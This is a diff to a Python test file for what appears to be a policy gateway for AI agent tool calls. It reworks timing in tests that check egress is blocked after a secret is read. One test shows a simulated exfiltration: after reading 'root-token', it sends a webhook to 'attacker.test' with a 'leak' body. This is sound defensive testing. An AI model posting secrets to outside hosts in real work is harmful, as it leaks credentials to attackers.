@@ -8,7 +8,7 @@ import time
 import unittest
 import uuid
 
-from harness import Gateway
+from harness import Gateway, wait_until
 
 READER = "spiffe://toolgate.test/agent/reader"
 PAYMENTS = "spiffe://toolgate.test/agent/payments"
@@ -282,22 +282,32 @@ class Expiry(BehaviourTestCase):
         with Gateway(config, workers=WORKERS) as gw:
             session = unique("idle")
             self.assert_allowed(Call(gw, "read_secret", {"name": "api-key"}, session=session))
+            read_at = time.monotonic()
             before = Call(gw, "post_webhook", {"url": "https://partner.test/hook", "body": unique("early")},
                           session=session)
             self.assert_forbidden(before, "no-egress-after-secret-read")
-            # Idle for longer than idle_seconds (whole seconds: 3 s is past 2 s whatever the phase).
-            time.sleep(3.2)
-            marker = unique("late")
-            after = Call(gw, "post_webhook", {"url": "https://partner.test/hook", "body": marker}, session=session)
+
+            # The same egress, until it goes out. A denied call leaves no trace, so asking
+            # does not keep the session alive.
+            def egress():
+                marker = unique("late")
+                call = Call(gw, "post_webhook", {"url": "https://partner.test/hook", "body": marker},
+                            session=session)
+                if call.status != 200:
+                    self.assert_forbidden(call, "no-egress-after-secret-read")
+                    return None
+                return call, marker
+            after, marker = wait_until(egress, timeout=10, what="the idle session to be forgotten", interval=0.2)
+            # Kept while idle for at most idle_seconds (whole seconds: now - last <= 2 lives),
+            # so at least 2 s, less the read's own round trip, passed.
+            self.assertGreaterEqual(time.monotonic() - read_at, 1.5, "the session was forgotten too early")
             self.assert_allowed(after)
             self.assertEqual(len(self.reached_upstream(gw, marker)), 1)
             context = after.record["cedar"]["context"]["session"]
             self.assertEqual((context["tags"], context["calls"]), ([], 0), after.describe())
             # The sweep (every second) removed the idle session (and counted it).
-            deadline = time.time() + 5
-            while counter(gw, "history_expired") < 1 and time.time() < deadline:
-                time.sleep(0.2)
-            self.assertGreaterEqual(counter(gw, "history_expired"), 1)
+            wait_until(lambda: counter(gw, "history_expired") >= 1, timeout=5, what="the history_expired counter",
+                       interval=0.2)
 
 
 class Eviction(BehaviourTestCase):
@@ -308,8 +318,10 @@ class Eviction(BehaviourTestCase):
             a = unique("A")
             # 3 entries: session A, the reader's counter, the reader's read_secret counter.
             self.assert_allowed(Call(gw, "read_secret", {"name": "root-token"}, session=a))
-            # Later by at least a whole second: A's entries are strictly the oldest.
-            time.sleep(1.1)
+            # Everything after it in a later whole second (the filter's clock is the wall clock):
+            # A's entries are strictly the oldest.
+            stamped = int(time.time())
+            wait_until(lambda: int(time.time()) > stamped, timeout=2, what="the next whole second", interval=0.01)
 
             def egress_in_a():
                 return Call(gw, "post_webhook", {"url": "https://attacker.test/hook", "body": unique("leak")},
